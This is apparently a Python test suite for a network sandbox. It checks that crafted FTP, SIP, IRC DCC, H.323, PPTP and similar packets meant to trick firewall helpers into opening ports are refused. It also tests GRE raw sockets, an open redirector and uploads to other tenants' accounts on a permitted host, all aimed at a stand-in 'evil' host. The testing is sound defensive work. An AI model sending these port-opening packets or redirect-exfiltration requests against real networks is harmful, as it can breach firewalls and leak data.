"""Corpus section E: packets that make firewalls open ports, and permitted hosts that help."""

from __future__ import annotations

import struct

import probes
import world
from world import ALLOWED, EVIL, block, datagrams, nothing_reaches, request, speak

_IP = ",".join(EVIL.split("."))
#: What connection-tracking helpers look for: each announces a second connection, to a port of the sender's choice.
OVER_TCP = {
    21: f"PORT {_IP},31,144\r\n".encode(),
    2121: f"EPRT |1|{EVIL}|8080|\r\n".encode(),
    5060: (f"REGISTER sip:{EVIL};transport=tcp SIP/2.0\r\nVia: SIP/2.0/TCP {EVIL}:5060;branch=z9hG4bK1\r\n"
           f"Contact: <sip:a@{EVIL}:8080;transport=tcp>\r\nContent-Length: 0\r\n\r\n").encode(),
    6667: b"PRIVMSG x :\x01DCC SEND f 3116068162 8080 1\x01\r\n",
    # H.323: a Q.931 SETUP in TPKT, with the address of the media channel in it.
    1720: b"\x03\0\0\x1c\x08\x02\0\x01\x05\x04\x03\x88\x93\xa5\x7e\0\x0b\x05\x20\x80\x06" + bytes(map(int, EVIL.split("."))) + struct.pack(">H", 8080),
    # PPTP: start-control-connection-request, after which GRE would follow.
    1723: struct.pack(">HHIHHHHIIHH", 156, 1, 0x1A2B3C4D, 1, 0, 0x0100, 0, 1, 1, 0, 1) + bytes(128),
    6566: b"\0\0\0\0\x01\0\0\x03\0\0\0\x05user\0",
}
OVER_UDP = {
    69: b"\0\x01canary\0octet\0",
    5060: (f"INVITE sip:a@{EVIL} SIP/2.0\r\nVia: SIP/2.0/UDP {EVIL}:5060\r\nContent-Type: application/sdp\r\nContent-Length: 47\r\n\r\n"
           f"c=IN IP4 {EVIL}\r\nm=audio 8080 RTP/AVP 0\r\n").encode(),
    # H.323: a RAS registration request.
    1719: b"\x0e\x80\0\0\x06\0\x08\x91\x4a\0\x02\x80\x01\0" + bytes(map(int, EVIL.split("."))) + struct.pack(">H", 8080),
    10080: b"Amanda 2.6 REQ HANDLE 1 SEQ 1\nSERVICE sendsize\nCONNECT DATA 8080 MESG 8081 INDEX 8082\n",
    137: struct.pack(">HHHHHH", 1, 0x0110, 1, 0, 0, 0) + b"\x20" + b"CK" + b"A" * 30 + b"\0\0\x21\0\x01",
}


def test_e99_packets_that_open_ports_elsewhere_are_refused_here(lab, sandbox):
    box = sandbox(network=world.POLICIES["P1"])
    world.bind(box, "allowed.test")
    with nothing_reaches(lab, box):
        assert set(speak(box, [(EVIL, port, data) for port, data in OVER_TCP.items()])) == {"refused"}
        for target in (EVIL, ALLOWED):
            assert set(datagrams(box, [(target, port, data) for port, data in OVER_UDP.items()])) == {"refused"}
    for port in OVER_TCP:
        event = block(lab, box, address=EVIL, port=port, protocol="tcp")
        assert event["reason"] == "deny_entry" and event["rule"]["text"].startswith("deny_out[0]"), event
    for port in OVER_UDP:
        assert block(lab, box, address=EVIL, port=port, protocol="udp")["reason"] == "deny_entry"
        assert block(lab, box, address=ALLOWED, port=port, protocol="udp")["host"] == "allowed.test"


def test_e99_a_permitted_host_is_told_of_a_port_and_nothing_opens(lab, p3):
    """By the wire these packets are the permitted host's own to read. The kernel must not read them, too."""
    before = len(lab.sink_lines())
    assert not {"refused", "hang"} & set(speak(p3, [(ALLOWED, port, data) for port, data in OVER_TCP.items()]))
    assert {line["port"] for line in lab.sink_lines()[before:] if line["kind"] == "connect"} == set(OVER_TCP)
    assert all(got.startswith("answer ") for got in datagrams(p3, [(ALLOWED, port, data) for port, data in OVER_UDP.items()]))
    # Where connections are tracked, nothing is expected to come of them.
    daemon = f"/proc/{lab.variables['BAILIWICK_LAB_DAEMON_PID']}"
    for place in [world.namespace(p3), *world.held_namespaces(daemon)]:
        assert world.privileged(place, 'say(open("/proc/net/nf_conntrack_expect").read())') == "", place
    # What was announced is not reached, and does not come in.
    with nothing_reaches(lab, p3, host="x"):
        assert set(speak(p3, [(EVIL, port, b"canary") for port in (8080, 8081, 20)])) == {"refused"}
        assert set(datagrams(p3, [(EVIL, port, b"canary") for port in (8080, 5060)])) == {"refused"}


def test_e99_gre_is_refused_as_a_socket_and_as_a_packet(lab, p1, p3):
    for box in (p1, p3):
        refused = probes.run(box, "say([outcome(lambda: socket.socket(family, socket.SOCK_RAW, 47).close()) for family in (socket.AF_INET, socket.AF_INET6)])", user="root")
        assert [each["ok"] for each in refused] == [False] * 2, refused
        with nothing_reaches(lab, box, host="allowed.test"):
            # From somebody who may open the socket: the packet is refused all the same.
            sent = world.privileged(world.namespace(box), f"""
                def gre(target):
                    client = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
                    client.settimeout(2)
                    client.connect((target, 0))
                    client.send(b"\\x30\\x01\\x88\\x0b\\0\\0\\0\\0\\0\\0\\0\\0canary")
                    client.send(b"\\x30\\x01\\x88\\x0b\\0\\0\\0\\0\\0\\0\\0\\0canary")
                    return "sent"
                say(outcome(lambda: gre({EVIL!r})))
                """)
        assert not sent["ok"] or sent["value"] == "sent"
        assert block(lab, box, count=2 if sent["ok"] else 1, address=EVIL, protocol="47")["reason"] == "deny_entry"


def allowed_events(lab, box, count: int, **expected) -> list[dict]:
    """The events of permitted flows that match, once there are so many and all of them have ended."""
    match = lambda events: [e for e in events if e["type"] == "egress_allowed" and all(e.get(key) == value for key, value in expected.items())]
    return match(lab.wait_for_events(box.sandbox_id, lambda events: len(match(events)) >= count))


def test_e115_an_open_redirector_at_the_permitted_host_gets_what_it_is_told_and_leads_nowhere(lab, sandbox):
    """A documented limit (`permitted_host`): what is said to a permitted host, it may pass on. What holds: it was said
    to that host only, there is a record of it, and the sandbox itself does not get to where it is sent."""
    box = sandbox(network=world.POLICIES["P1"])
    token = probes.canary()
    with nothing_reaches(lab, box, but=lambda line: line["destination"] == ALLOWED):
        targets = [f"http://evil.test:8085/{token}", f"http://{EVIL}:8086/{token}", f"//evil.test:8087/{token}"]
        results = probes.run(box, f"""
            import urllib.request
            say([outcome(lambda: urllib.request.urlopen("http://allowed.test:8084/out?redirect=" + to, timeout=8).read().decode()) for to in {targets!r}])
            """)
        assert [each["ok"] for each in results] == [False] * 3, results
        assert all("refused" in each["text"] for each in results), results
    assert {line["destination"] for line in lab.seen(token)} == {ALLOWED}
    said = allowed_events(lab, box, 3, host="allowed.test", port=8084)
    assert len(said) == 3 and {event["address"] for event in said} == {ALLOWED}
    for port, host in ((8085, "evil.test"), (8086, None), (8087, "evil.test")):
        event = block(lab, box, port=port, protocol="tcp")
        assert event.get("host") == host and event["reason"] == "deny_entry", event
    # The twin: a redirection to the permitted host itself.
    again = probes.run(box, 'import urllib.request\nsay(outcome(lambda: urllib.request.urlopen("http://allowed.test:8084/?redirect=http://allowed.test:8088/", timeout=8).status))')
    assert again == {"ok": True, "value": 200}


def test_e116_another_tenant_of_the_permitted_host_is_recorded_and_one_with_its_own_name_is_refused(lab, sandbox):
    """A documented limit (`permitted_host`): whose account a request is for, nobody judges. What holds: it goes to the
    permitted host only, with its bytes on record; a tenant with a name of its own is another host; and who asks for more
    is told that there is no more."""
    box = sandbox(network=world.POLICIES["P1"])
    token = probes.canary()
    theirs = [
        request("allowed.test", "/v1/files", "POST", more="X-API-Key: of-somebody-else\r\n", body=token),
        request("allowed.test", f"/bucket-of-somebody-else/{token}?X-Amz-Signature=00", "PUT", body=token),
    ]
    before = {event["id"] for event in lab.events(box.sandbox_id)}
    assert speak(box, [("allowed.test", 8084, data) for data in theirs]) == ["http 200"] * 2
    assert {line["destination"] for line in world.wait_for(lambda: lab.seen(token))} == {ALLOWED}
    ended = lambda events: [e for e in events if e["id"] not in before and e["type"] == "egress_allowed" and e.get("port") == 8084 and e.get("bytes_up")]
    events = ended(lab.wait_for_events(box.sandbox_id, lambda events: len(ended(events)) == 2))
    assert {(e["host"], e["address"]) for e in events} == {("allowed.test", ALLOWED)} and all(e["bytes_up"] >= 100 for e in events), events
    with nothing_reaches(lab, box):
        own = [("bucket-of-somebody-else.allowed.test", 8085, request("bucket-of-somebody-else.allowed.test", body=token)),
               (ALLOWED, 8086, request("bucket-of-somebody-else.allowed.test", body=token)),
               (ALLOWED, 443, world.hello(b"bucket-of-somebody-else.allowed.test"))]
        assert speak(box, own) == ["refused", "http 403", "alert 49"]
    for port in (8085, 8086, 443):
        assert block(lab, box, port=port, host="bucket-of-somebody-else.allowed.test")["reason"] == "deny_entry"
    more = {**world.POLICIES["P1"], "tenants": {"allowed.test": ["ours"]}}
    status, answer = lab.request("PUT", f"/sandboxes/{box.sandbox_id}/network", more)
    assert status == 200 and [text for text in answer["warnings"] if "tenants" in text and "ignored" in text], answer
